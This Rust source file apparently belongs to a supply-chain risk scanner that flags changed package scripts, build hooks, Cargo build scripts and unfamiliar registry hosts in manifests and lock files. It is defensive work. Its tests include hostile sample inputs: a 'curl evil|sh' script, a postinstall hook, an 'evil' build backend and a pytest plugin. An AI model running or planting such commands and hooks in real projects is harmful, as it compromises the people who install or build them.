//! Finds risks in package manifests and lock files: scripts, build hooks, and package hosts.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;

use regex::bytes::Regex;
use serde_json::Value;

use super::content::line_number_at;
use super::{Finding, Severity};
use crate::core::path::{RepoPath, has_path_below};

/// Lock files, each with the manifests of which at least one should have changed as well.
const LOCK_FILES: &[(&str, &[&str])] = &[
    ("package-lock.json", &["package.json"]),
    ("npm-shrinkwrap.json", &["package.json"]),
    ("yarn.lock", &["package.json"]),
    ("pnpm-lock.yaml", &["package.json", "pnpm-workspace.yaml"]),
    ("bun.lock", &["package.json"]),
    ("bun.lockb", &["package.json"]),
    ("deno.lock", &["deno.json", "deno.jsonc", "package.json"]),
    ("cargo.lock", &["Cargo.toml"]),
    ("poetry.lock", &["pyproject.toml"]),
    ("uv.lock", &["pyproject.toml"]),
    ("pdm.lock", &["pyproject.toml"]),
    ("pipfile.lock", &["Pipfile"]),
    ("gemfile.lock", &["Gemfile"]),
    ("composer.lock", &["composer.json"]),
    ("go.sum", &["go.mod"]),
    ("flake.lock", &["flake.nix"]),
    ("mix.lock", &["mix.exs"]),
    ("pubspec.lock", &["pubspec.yaml"]),
    ("podfile.lock", &["Podfile"]),
    ("packages.lock.json", &["Directory.Packages.props"]),
    ("gradle.lockfile", &["build.gradle", "build.gradle.kts"]),
];

/// Returns whether a package manager writes a lock file with this name.
#[must_use]
pub(crate) fn is_lock_file(name: &[u8]) -> bool {
    let name = String::from_utf8_lossy(name).to_lowercase();
    LOCK_FILES.iter().any(|(lock, _)| *lock == name)
}

/// The manifests in a changeset, by name, with their paths in order.
#[derive(Debug, Clone, Default)]
pub struct PackageManifests(BTreeMap<String, BTreeSet<RepoPath>>);

impl PackageManifests {
    /// Collects the manifests among the paths of a changeset.
    pub fn from_paths<'a>(changed: impl IntoIterator<Item = &'a RepoPath>) -> Self {
        let manifests = LOCK_FILES.iter().flat_map(|(_, manifests)| *manifests);
        let known: BTreeSet<String> = manifests.map(|name| name.to_lowercase()).collect();
        let mut found: BTreeMap<String, BTreeSet<RepoPath>> = BTreeMap::new();
        for path in changed {
            let name = String::from_utf8_lossy(path.file_name()).to_lowercase();
            if known.contains(&name) {
                found.entry(name).or_default().insert(path.clone());
            }
        }
        Self(found)
    }

    /// Returns whether a changed manifest with this name is in a directory (`None` is the root) or below it.
    fn has_manifest(&self, name: &str, directory: Option<&RepoPath>) -> bool {
        let Some(paths) = self.0.get(name) else { return false };
        let Some(directory) = directory else { return true };
        has_path_below(paths, directory)
    }
}

/// Returns whether the content of a file matters to [`find_package_risks`].
pub(super) fn is_package_file(path: &RepoPath) -> bool {
    let name = String::from_utf8_lossy(path.file_name()).to_lowercase();
    matches!(name.as_str(), "package.json" | "pyproject.toml" | "cargo.toml")
        || LOCK_FILES.iter().any(|(lock, _)| *lock == name)
}

/// Returns the findings for a package's manifest or lock file.
pub(super) fn find_package_risks(
    path: &RepoPath,
    old: &[u8],
    new: &[u8],
    manifests: &PackageManifests,
) -> Vec<Finding> {
    let name = String::from_utf8_lossy(path.file_name()).to_lowercase();
    let finding = |rule: &str, level, (reason, line)| Finding { rule: rule.into(), severity: level, reason, line };
    let medium = |rule: &str, found| finding(rule, Severity::Medium, found);
    match name.as_str() {
        "package.json" => {
            find_changed_npm_script(old, new).map(|found| medium("package-scripts", found)).into_iter().collect()
        }
        "pyproject.toml" => {
            find_changed_build_hook(old, new).map(|reason| medium("build-hooks", (reason, None))).into_iter().collect()
        }
        "cargo.toml" => {
            let found = find_changed_cargo_config(old, new);
            found.map(|(level, reason)| finding("build-script", level, (reason, None))).into_iter().collect()
        }
        _ => {
            let Some((_, expected)) = LOCK_FILES.iter().find(|(lock, _)| *lock == name) else { return Vec::new() };
            let mut found = Vec::new();
            let directory = path.parent();
            if !expected.iter().any(|manifest| manifests.has_manifest(&manifest.to_lowercase(), directory.as_ref())) {
                found.push(medium("lock-alone", (format!("changes without its {}", expected[0]), None)));
            }
            let known: BTreeSet<String> = find_registry_hosts(old).into_iter().map(|(host, _)| host).collect();
            if let Some((host, at)) = find_registry_hosts(new).into_iter().find(|(host, _)| !known.contains(host)) {
                found.push(medium("lock-host", (format!("gets packages from {host}"), Some(line_number_at(new, at)))));
            }
            found
        }
    }
}

/// Keys of a `package.json` that are descriptive, or whose packages the lock file lists. Any other key may make a tool
/// run something.
const INERT_PACKAGE_KEYS: [&str; 32] = [
    "name",
    "version",
    "private",
    "description",
    "keywords",
    "homepage",
    "bugs",
    "license",
    "author",
    "contributors",
    "maintainers",
    "funding",
    "files",
    "repository",
    "dependencies",
    "devDependencies",
    "peerDependencies",
    "peerDependenciesMeta",
    "optionalDependencies",
    "bundleDependencies",
    "bundledDependencies",
    "engines",
    "os",
    "cpu",
    "publishConfig",
    "sideEffects",
    "type",
    "main",
    "module",
    "types",
    "exports",
    "browserslist",
];

/// Returns the reason and line of a changed script, or of another changed key that may run something, in a
/// `package.json`.
fn find_changed_npm_script(old: &[u8], new: &[u8]) -> Option<(String, Option<usize>)> {
    let read = |bytes: &[u8]| if bytes.is_empty() { Ok(Value::Null) } else { serde_json::from_slice::<Value>(bytes) };
    let (Ok(before), Ok(after)) = (read(old), read(new)) else {
        return Some(("is not valid JSON, so its scripts are unknown".into(), None));
    };
    let line = |name: &str| {
        let quoted = serde_json::to_string(name).unwrap_or_default();
        memchr::memmem::find(new, quoted.as_bytes()).map(|at| line_number_at(new, at))
    };
    let (old_scripts, new_scripts) = (&before["scripts"], &after["scripts"]);
    if old_scripts != new_scripts {
        let Some(scripts) = new_scripts.as_object() else { return Some(("no longer has scripts".into(), None)) };
        return Some(match scripts.iter().find(|(name, script)| old_scripts.get(name) != Some(script)) {
            Some((name, _)) => (format!("changes the script {name:?}"), line(name)),
            None => ("removes scripts".into(), None),
        });
    }
    let keys = |value: &Value| value.as_object().into_iter().flat_map(|o| o.keys().cloned()).collect::<BTreeSet<_>>();
    let other = keys(&after)
        .union(&keys(&before))
        .find(|key| !INERT_PACKAGE_KEYS.contains(&key.as_str()) && before.get(key.as_str()) != after.get(key.as_str()))?
        .clone();
    Some((format!("changes {other:?}, which may make a tool run something"), line(&other)))
}

/// Keys of `[project]` that define code to run.
const EXECUTABLE_PROJECT_KEYS: [&str; 4] = ["entry-points", "scripts", "gui-scripts", "dynamic"];

/// Returns the reason if the build or configuration of a Python project changed. Descriptions and dependencies are
/// excluded.
fn find_changed_build_hook(old: &[u8], new: &[u8]) -> Option<String> {
    let (Some(old), Some(new)) = (parse_toml(old), parse_toml(new)) else {
        return Some("is not valid TOML, so its build hooks are unknown".into());
    };
    let project_value = |table: &toml::Table, key: &str| table.get("project").and_then(|p| p.get(key)).cloned();
    if let Some(key) =
        EXECUTABLE_PROJECT_KEYS.into_iter().find(|key| project_value(&old, key) != project_value(&new, key))
    {
        return Some(format!("changes [project] {key}, which defines what runs"));
    }
    let keys: BTreeSet<&String> =
        old.keys().chain(new.keys()).filter(|k| *k != "project" && *k != "dependency-groups").collect();
    let other = keys.into_iter().find(|key| old.get(*key) != new.get(*key))?;
    Some(format!("changes [{other}], which runs on the next build or test"))
}

/// Returns the severity and reason if a Rust package runs different code when it is built, or takes packages from
/// elsewhere.
///
/// Editors build packages without being asked.
fn find_changed_cargo_config(old: &[u8], new: &[u8]) -> Option<(Severity, String)> {
    let (Some(old), Some(new)) = (parse_toml(old), parse_toml(new)) else {
        return Some((Severity::High, "is not valid TOML, so its build script is unknown".into()));
    };
    let table_value = |table: &toml::Table, part: &str, key: &str| table.get(part).and_then(|p| p.get(key)).cloned();
    for (part, key) in [("package", "build"), ("package", "links"), ("lib", "proc-macro"), ("lib", "path")] {
        if table_value(&old, part, key) != table_value(&new, part, key)
            && (key != "path" || table_value(&new, part, "proc-macro").is_some())
        {
            return Some((Severity::High, format!("changes [{part}] {key}, which editors build automatically")));
        }
    }
    let other = ["patch", "replace"].into_iter().find(|key| old.get(*key) != new.get(*key))?;
    Some((Severity::Medium, format!("changes [{other}], which gets packages from another source")))
}

fn parse_toml(bytes: &[u8]) -> Option<toml::Table> {
    std::str::from_utf8(bytes).ok()?.parse().ok()
}

static HOST_REGEX: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i-u)\b(?:https?|git|ssh|git\+[a-z]+|registry\+https?|sparse\+https?)://(?:[^\s/@]*@)?([a-z0-9.-]+|\[[0-9a-f:.]+\])(?::[0-9]+)?")
        .expect("it is valid; a test uses it")
});

/// Returns the hosts that a lock file names, with the byte offset of their first occurrence.
fn find_registry_hosts(bytes: &[u8]) -> Vec<(String, usize)> {
    let mut seen = BTreeSet::new();
    let mut found = Vec::new();
    for captures in HOST_REGEX.captures_iter(bytes) {
        let Some(host) = captures.get(1) else { continue };
        let name = String::from_utf8_lossy(host.as_bytes()).to_lowercase();
        if seen.insert(name.clone()) {
            found.push((name, host.start()));
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    fn find_risks(path: &str, old: &str, new: &str, changed: &[&str]) -> Vec<(String, Option<usize>)> {
        let parse_path = |p: &str| RepoPath::from_bytes(p.as_bytes()).expect("valid path");
        let changed: Vec<RepoPath> = changed.iter().map(|p| parse_path(p)).collect();
        let findings = find_package_risks(
            &parse_path(path),
            old.as_bytes(),
            new.as_bytes(),
            &PackageManifests::from_paths(&changed),
        );
        findings.into_iter().map(|f| (f.reason, f.line)).collect()
    }

    #[test]
    fn package_scripts_are_compared_as_json() {
        let old = "{\n \"name\": \"x\",\n \"scripts\": {\"test\": \"jest\"}\n}\n";
        let find_changes = |new: &str| find_risks("web/Package.json", old, new, &[]);
        assert_eq!(find_changes(&old.replace("x", "y")), []);
        assert_eq!(find_changes(&old.replace(" ", "")), [], "whitespace is ignored");
        assert_eq!(
            find_changes(&old.replace("jest", "curl evil|sh")),
            [("changes the script \"test\"".into(), Some(3))]
        );
        assert_eq!(
            find_changes(&old.replace("{\"test\"", "{\n\"postinstall\": \"x\",\"test\"")),
            [("changes the script \"postinstall\"".into(), Some(4))]
        );
        assert_eq!(find_changes("{\"scripts\": {}}"), [("removes scripts".into(), None)]);
        assert_eq!(find_changes("{}"), [("no longer has scripts".into(), None)]);
        assert_eq!(find_changes("{"), [("is not valid JSON, so its scripts are unknown".into(), None)]);
        // The last of several duplicate keys counts, both in package managers and in this parser.
        assert_eq!(find_changes(&old.replace("}\n}", "}, \"scripts\": {\"test\": \"evil\"}}")).len(), 1);
        assert_eq!(find_risks("package.json", "", "{\"scripts\": {\"a\": \"b\"}}", &[]).len(), 1);
        assert_eq!(find_risks("package.json", "", "{\"name\": \"a\"}", &[]), []);
        for key in ["lint-staged", "simple-git-hooks", "packageManager", "husky", "gypfile", "bin"] {
            assert_eq!(find_changes(&old.replace("\"name\"", &format!("{key:?}: {{}}, \"name\""))).len(), 1, "{key}");
        }
        for key in ["description", "devDependencies", "keywords"] {
            assert_eq!(find_changes(&old.replace("\"name\"", &format!("{key:?}: {{}}, \"name\""))), [], "{key}");
        }
    }

    #[test]
    fn build_manifest_changes_are_findings_except_description() {
        let old = "[project]\nname = \"x\"\n[build-system]\nrequires = [\"hatchling\"]\n";
        let find_changes = |new: &str| find_risks("pyproject.toml", old, new, &[]);
        assert_eq!(find_changes(&old.replace("\"x\"", "\"y\"")), []);
        assert_eq!(
            find_changes(&old.replace("hatchling", "evil")),
            [("changes [build-system], which runs on the next build or test".into(), None)]
        );
        assert_eq!(find_changes(&format!("{old}[tool.pytest]\naddopts = \"-p evil\"\n")).len(), 1);
        assert_eq!(find_changes("[").len(), 1);
        assert_eq!(find_changes(&format!("{old}[project.entry-points.pytest11]\nx = \"evil\"\n")).len(), 1);
        assert_eq!(find_changes(&old.replace("[project]", "[project]\ndynamic = [\"version\"]")).len(), 1);
    }

    #[test]
    fn renamed_build_scripts_are_findings() {
        let old = "[package]\nname = \"x\"\n[dependencies]\na = \"1\"\n";
        let severity = |new: &str| {
            let path = RepoPath::from_bytes(b"x/Cargo.toml").expect("valid path");
            find_package_risks(&path, old.as_bytes(), new.as_bytes(), &PackageManifests::default())
                .first()
                .map(|f| f.severity)
        };
        assert_eq!(severity(&old.replace("a = \"1\"", "a = \"2\"")), None);
        assert_eq!(severity(&old.replace("\"x\"", "\"x\"\nbuild = \"src/innocent.rs\"")), Some(Severity::High));
        assert_eq!(severity(&format!("{old}[lib]\nproc-macro = true\n")), Some(Severity::High));
        assert_eq!(severity(&format!("{old}[lib]\npath = \"a.rs\"\n")), None);
        assert_eq!(severity(&format!("{old}[patch.crates-io]\na = {{ path = \"evil\" }}\n")), Some(Severity::Medium));
        assert_eq!(severity("["), Some(Severity::High));
    }

    #[test]
    fn lock_file_findings_depend_on_manifest_and_hosts() {
        let lock = |host: &str| format!("{{\n\"resolved\": \"https://{host}/x.tgz\"\n}}\n");
        let npm = lock("registry.npmjs.org");
        let changed = ["package-lock.json", "package.json"];
        assert_eq!(find_risks("package-lock.json", &npm, &format!("{npm} "), &changed), []);
        assert_eq!(
            find_risks(
                "package-lock.json",
                &npm,
                &format!("{npm} "),
                &["package-lock.json", "../no".trim_start_matches("../")]
            ),
            [("changes without its package.json".into(), None)]
        );
        assert_eq!(
            find_risks("package-lock.json", &npm, &lock("user@Evil.example:8443"), &changed),
            [("gets packages from evil.example".into(), Some(2))]
        );
        // The manifest of a workspace member is below the lock file; manifests elsewhere do not count.
        assert_eq!(find_risks("a/Cargo.lock", "", "", &["a/b/Cargo.toml"]), []);
        assert_eq!(find_risks("a/Cargo.lock", "", "", &["b/Cargo.toml"]).len(), 1);
        for source in
            ["git+ssh://git@h.example/x", "registry+https://h.example/i", "git://h.example", "http://[2001:db8::1]/"]
        {
            assert_eq!(find_risks("yarn.lock", "", source, &["package.json"]).len(), 1, "{source}");
        }
        for (lock, manifests) in LOCK_FILES {
            assert_eq!(find_risks(lock, "", "", &[manifests[0]]), [], "{lock}");
            assert_eq!(find_risks(lock, "", "", &["x"]).len(), 1, "{lock}");
        }
    }
}
